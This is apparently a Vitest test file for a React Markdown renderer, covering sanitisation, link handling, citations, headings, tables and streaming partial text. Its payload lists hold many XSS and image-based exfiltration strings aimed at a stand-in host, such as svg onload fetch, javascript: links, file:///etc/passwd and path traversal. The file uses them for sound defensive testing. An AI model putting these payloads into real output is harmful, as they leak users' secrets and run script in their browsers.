import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { headingAnchors } from "./heading-anchors";
import { type Citation, Markdown } from "./markdown";
import { safeLink } from "./markdown-links";
import { settlePartial } from "./markdown-partial";

const sources: Citation[] = [
  { n: 1, title: "Refund policy", href: "/help/refunds#deadlines", heading: "Deadlines" },
  { n: 2, title: "Invoices", href: "/help/invoices", heading: null },
];

const render = (text: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) =>
  renderToStaticMarkup(<Markdown text={text} {...props} />);

const E = "https://evil.test/?q=SECRET";
const payloads = [
  `![a](${E})`,
  `![a](<${E}>)`,
  `![a](  ${E}  "title")`,
  `![a][x]\n\n[x]: ${E}`,
  `![x][]\n\n[x]: <${E}> 'title'`,
  `![x]\n\n[x]: ${E}`,
  `[![a](${E})](${E})`,
  `![a](//evil.test/x.png)`,
  `![a](\\\\evil.test\\x.png)`,
  `![a](data:image/svg+xml;base64,PHN2Zy8+)`,
  `![a](/api/v1/me)`,
  `<img src="${E}">`,
  `<img src=${E} onerror=alert(1)>`,
  `<IMG\nSRC\n=\n'${E}'>`,
  `<img srcset="${E} 2x">`,
  `<picture><source srcset="${E}"><img src=x></picture>`,
  `<meta http-equiv="refresh" content="0;url=${E}">`,
  `<iframe src="${E}"></iframe>`,
  `<iframe srcdoc="<img src=${E}>"></iframe>`,
  `<svg><image href="${E}"/><use href="${E}"/></svg>`,
  `<svg onload="fetch('${E}')">`,
  `<link rel="stylesheet" href="${E}">`,
  `<link rel=dns-prefetch href=//secret.evil.test>`,
  `<style>@import url(${E});</style>`,
  `<p style="background:url(${E})">x</p>`,
  `<video poster="${E}"><source src="${E}"></video>`,
  `<audio src="${E}" autoplay>`,
  `<object data="${E}"></object><embed src="${E}">`,
  `<form action="${E}"><input type=image src="${E}"></form>`,
  `<base href="https://evil.test/">`,
  `<body background="${E}">`,
  `<table background="${E}"><tr><td background="${E}">x</table>`,
  `<script src="${E}"></script>`,
  `<script>location="${E}"</script>`,
  `<a href="javascript:alert(1)" ping="${E}">x</a>`,
  `[x](javascript:alert(1))`,
  `[x](<java\tscript:alert(1)>)`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](&#106;avascript:alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://evil.test/1)`,
  `<javascript:alert(1)>`,
  `[x][y]\n\n[y]: javascript:alert(1)`,
  `\`\`\`html\n<img src=${E}>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A[<img src=${E}>]\n\`\`\``,
  `$$\\includegraphics{${E}}$$`,
  `| a |\n|---|\n| ![a](${E}) |`,
  `- [ ] ![a](${E})\n- [x] <img src=${E}>`,
  `Text[^1]\n\n[^1]: ![a](${E})`,
  `# ![a](${E})\n\n> ![b](${E})`,
  `[1]\n\n[1]: javascript:alert(1)`,
];

const FILE = "/api/v1/files/0198c0de-1234-7abc-8def-0123456789ab";
/** Addresses that resemble a file's. */
const nearFiles = [
  `![a](https://evil.test${FILE})`,
  `![a](//evil.test${FILE})`,
  `![a](\\\\evil.test${FILE})`,
  `![a](/\t/evil.test${FILE})`,
  `![a](http:${FILE})`,
  `![a](.${FILE})`,
  `![a](${FILE.slice(1)})`,
  `![a](${FILE}/)`,
  `![a](${FILE}/../../me)`,
  `![a](${FILE}?q=SECRET)`,
  `![a](${FILE}#x)`,
  `![a](${FILE}.svg)`,
  `![a](${FILE}%0a)`,
  `![a](<${FILE} >)`,
  `![a](<${FILE} 2x, https://evil.test/x 3x>)`,
  `![a](${FILE.toUpperCase()})`,
  `![a](/API/v1/files/0198c0de-1234-7abc-8def-0123456789ab)`,
  `![a](/api/v1/files/../me)`,
  `![a](/api/v1/files/%2e%2e/me)`,
  `![a](/api/v1/files/0198c0de12347abc8def0123456789ab)`,
  `![a](/api/v1/files/)`,
  `![a][x]\n\n[x]: ${FILE}`,
  `<img src="${FILE}">`,
  `<img src="${FILE}" onload=alert(1)>`,
  `[x](${FILE}/../../me)`,
  `[x](${FILE}?a=b)`,
  `[x](/api/v1/files/../me)`,
  `[x](https://evil.test${FILE})`,
  `[x][y]\n\n[y]: /api/v1/me`,
];

const allowedTags = new Set(
  "div p br hr strong em del code pre blockquote ul ol li a sup span section table thead tbody tr th td h3 h4 h5 h6".split(
    " ",
  ),
);
const allowedAttributes = new Set("class href target rel title aria-label tabindex start scope".split(" "));

/** React escapes `<` and `"` in text and values, so real tags and attributes can be read off exactly. */
function inspect(html: string): { tags: string[]; attributes: string[]; hrefs: string[] } {
  const tags: string[] = [];
  const attributes: string[] = [];
  const hrefs: string[] = [];
  for (const tag of html.matchAll(/<\/?([a-z0-9]+)((?: [^<>]*)?)\/?>/gi)) {
    tags.push(String(tag[1]));
    for (const attribute of String(tag[2]).matchAll(/([a-z-]+)="([^"]*)"/gi)) {
      attributes.push(String(attribute[1]).toLowerCase());
      if (attribute[1] === "href") hrefs.push(String(attribute[2]));
    }
  }
  return { tags, attributes, hrefs };
}

describe("Markdown keeps out everything that loads or runs", () => {
  it.each(payloads)("every prefix of %j", (payload) => {
    for (let length = 1; length <= payload.length; length++) {
      for (const streaming of [true, false]) {
        const html = render(`Hello ${payload.slice(0, length)}`, { streaming, citations: sources });
        const { tags, attributes, hrefs } = inspect(html);
        expect(html.match(/</g)?.length).toBe(tags.length);
        expect(tags.filter((tag) => !allowedTags.has(tag))).toEqual([]);
        expect(attributes.filter((name) => !allowedAttributes.has(name))).toEqual([]);
        expect(hrefs.filter((href) => !/^(https?:\/\/[a-z0-9]|mailto:|\/(?![/\\]))/.test(href))).toEqual([]);
      }
    }
  });

  it("shows HTML as the text that was typed", () => {
    expect(render("a <b>bold</b> claim")).toContain("a &lt;b&gt;bold&lt;/b&gt; claim");
  });

  it("keeps a picture's words", () => {
    expect(render("see ![the diagram](https://evil.test/x)")).toContain("see the diagram");
  });
});

describe("Markdown of an article loads its uploaded pictures and nothing else", () => {
  const src = new RegExp(`^${FILE.replace(/[0-9a-f-]{36}$/, "[0-9a-f-]{36}")}$`);
  const shownTags = new Set([...allowedTags, "img"]);
  const shownAttributes = new Set([
    ...allowedAttributes,
    ..."src alt width height loading decoding".split(" "),
  ]);
  const sources = (html: string) => [...html.matchAll(/ src="([^"]*)"/g)].map(([, url]) => url ?? "");
  const pages = (hrefs: string[]) => hrefs.filter((href) => !src.test(href));

  it.each([...payloads, ...nearFiles, `![a](${FILE} "t")\n\n[x](${FILE} "t")`])(
    "every prefix of %j",
    (payload) => {
      for (let length = 1; length <= payload.length; length++) {
        const html = render(`Hello ${payload.slice(0, length)}`, { files: {} });
        const { tags, attributes, hrefs } = inspect(html);
        expect(html.match(/</g)?.length).toBe(tags.length);
        expect(tags.filter((tag) => !shownTags.has(tag))).toEqual([]);
        expect(attributes.filter((name) => !shownAttributes.has(name))).toEqual([]);
        expect(sources(html).filter((url) => !src.test(url))).toEqual([]);
        expect(
          pages(hrefs).filter((href) => !/^(https?:\/\/[a-z0-9]|mailto:|\/(?![/\\]))/.test(href)),
        ).toEqual([]);
        expect(pages(hrefs).filter((href) => /^\/api(\/|$)/i.test(href))).toEqual([]);
      }
    },
  );

  it.each(nearFiles)("shows no picture for %j", (payload) => {
    expect(render(payload, { files: {} })).not.toContain("<img");
  });

  it("gives a picture its words, its size when that is known, and time", () => {
    const id = FILE.slice(-36);
    const html = render(`![Loosen "both" screws](${FILE})`, {
      files: { [id]: { width: 1200, height: 800 } },
    });
    expect(html).toContain(
      `<img src="${FILE}" alt="Loosen &quot;both&quot; screws" width="1200" height="800"`,
    );
    expect(html).toContain('loading="lazy"');
    expect(render(`![x](${FILE})`, { files: {} })).not.toContain("width=");
  });

  it("shows the words alone where pictures are not allowed, and of sources that are none", () => {
    expect(render(`see ![the diagram](${FILE})`)).toContain("see the diagram");
    expect(render(`see ![the diagram](${FILE})`, { streaming: true, citations: [] })).not.toContain("<img");
    expect(render("see ![the diagram](https://example.com/x.png)", { files: {} })).toContain(
      "see the diagram",
    );
  });

  it("links uploaded files there, and only there", () => {
    expect(render(`[Manual](${FILE})`, { files: {} })).toContain(`<a href="${FILE}" class`);
    expect(render(`[Manual](${FILE})`)).not.toContain("<a");
    expect(render("[Me](/api/v1/me)", { files: {} })).not.toContain("<a");
  });
});

describe("links", () => {
  it("open web pages in a new tab without a referrer and name the host", () => {
    const html = render("[our guide](https://example.com/a)");
    expect(html).toContain('target="_blank" rel="noopener noreferrer nofollow"');
    expect(html).toContain("(example.com)");
  });

  it("do not repeat a host that the text already gives", () => {
    expect(render("https://example.com/a")).not.toContain("(example.com)");
    expect(render("[https://bank.example](https://evil.test)")).toContain("(evil.test)");
  });

  it.each([
    ["/help/a?b=1#c", { kind: "internal", href: "/help/a?b=1#c" }],
    [
      "mailto:a@b.test?bcc=x@evil.test&body=SECRET",
      { kind: "mail", href: "mailto:a@b.test", address: "a@b.test" },
    ],
    ["HTTPS://Example.COM", { kind: "external", href: "https://example.com/", host: "example.com" }],
    ["https://bank.example@evil.test/", null],
    ["/api/v1/me", null],
    ["/\t/evil.test", null],
    ["/\\evil.test", null],
    ["//evil.test", null],
    ["help", null],
    ["#top", null],
    ["https:evil.test", null],
    ["tel:123", null],
    ["http://[", null],
  ])("%j", (raw, expected) => {
    expect(safeLink(raw)).toEqual(expected);
  });
});

describe("citations", () => {
  it("link marks of sources that exist, adjacent ones too", () => {
    const html = render("Within 30 days [1][2].", { citations: sources });
    expect(html).toContain('href="/help/refunds#deadlines"');
    expect(html).toContain('aria-label="Source 2: Invoices"');
  });

  it("leave other numbers, code and link texts alone", () => {
    const html = render("Row [7], `a[1]` and [see [1] there](https://example.com)", { citations: sources });
    expect(html).not.toContain("<sup");
    expect(html).toContain("[7]");
  });

  it("say when their source has changed, and lead nowhere when it is gone", () => {
    const [first, second] = sources;
    const html = render("Changed [1], gone [2].", {
      citations: [
        { ...first, n: 1, title: "Refunds", href: "/help/refunds#deadlines", heading: null, changed: true },
        {
          ...second,
          n: 2,
          title: "Invoices",
          href: "/help/invoices",
          heading: null,
          changed: true,
          gone: true,
        },
      ],
    });
    expect(html).toContain('aria-label="Source 1: Refunds (changed since this answer)"');
    expect(html).toContain("no longer available");
    expect(html).not.toContain("/help/invoices");
  });

  it("cannot be redirected by a definition in the text", () => {
    const html = render("Yes [1].\n\n[1]: https://evil.test", { citations: sources });
    expect(html).toContain('href="/help/refunds#deadlines"');
    expect(html).not.toContain("evil.test");
  });

  it("do not link a source whose address is not a page", () => {
    const html = render("Yes [1].", {
      citations: [{ n: 1, title: "x", href: "javascript:alert(1)", heading: null }],
    });
    expect(html).not.toContain("<a");
  });
});

describe("structure", () => {
  it("puts headings below the message's own and never past h6", () => {
    expect(render("# One\n\n##### Five")).toMatch(/<h3 .*One<\/h3>\s*<h6 .*Five<\/h6>/);
  });

  it("gives articles unique anchors", () => {
    const html = render("## Set up\n\n## Set up", { anchors: headingAnchors, headingOffset: 0 });
    expect(html).toContain('id="set-up"');
    expect(html).toContain('id="set-up-1"');
  });

  it("puts a link to each heading beside it, outside its name", () => {
    const html = render("## Set `it` up", { anchors: headingAnchors, headingOffset: 0 });
    expect(html).toMatch(/<h2 id="set-it-up"[^>]*>Set <code[^>]*>it<\/code> up<\/h2><a href="#set-it-up"/);
    expect(html).toContain('aria-label="Link to “Set it up”"');
    expect(render("## Set up")).not.toContain("href=");
  });

  it("makes no header of an empty corner", () => {
    const html = render("| | Price |\n|---|---|\n| Desk | 5 |");
    expect(html.match(/<th /g)).toHaveLength(1);
    expect(html.match(/<td /g)).toHaveLength(3);
  });

  it("aligns table columns without style attributes and lets wide tables scroll", () => {
    const html = render("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(html).toContain("text-right");
    expect(html).toContain("overflow-x-auto");
    expect(html).not.toContain("style=");
  });

  it("keeps line breaks of what was typed in a composer", () => {
    expect(render("one\ntwo", { breaks: true })).toMatch(/one<br\/>\s*two/);
    expect(render("one\ntwo")).not.toContain("<br/>");
  });
});

describe("settlePartial", () => {
  it.each([
    ["See **the gui", "See **the gui**"],
    ["See **", "See "],
    ["Run `npm", "Run `npm`"],
    ["as in [the guide](https://ex", "as in the guide"],
    ["as in [the gui", "as in the gui"],
    ["within 30 days [1", "within 30 days "],
    ["![a](https://evil", ""],
    ["```js\nconst a = **", "```js\nconst a = **"],
    ["* item", "* item"],
    ["whole **text** with `code`.", "whole **text** with `code`."],
  ])("%j -> %j", (source, expected) => {
    expect(settlePartial(source)).toBe(expected);
  });
});
